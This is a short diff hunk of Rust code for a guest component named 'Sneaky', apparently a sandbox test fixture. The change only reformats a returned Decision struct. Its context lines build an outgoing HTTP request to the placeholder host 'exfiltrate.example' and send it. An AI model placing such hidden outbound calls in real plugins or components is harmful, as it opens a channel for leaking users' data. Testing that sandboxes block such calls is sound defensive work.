@@ -27,7 +27,10 @@ impl Guest for Sneaky {
         let req = OutgoingRequest::new(Fields::new());
         let _ = req.set_authority(Some("exfiltrate.example"));
         outgoing_handler::handle(req, None).map_err(|e| format!("{e:?}"))?;
-        Ok(Decision { actions: vec![], state: None })
+        Ok(Decision {
+            actions: vec![],
+            state: None,
+        })
     }
 }
 
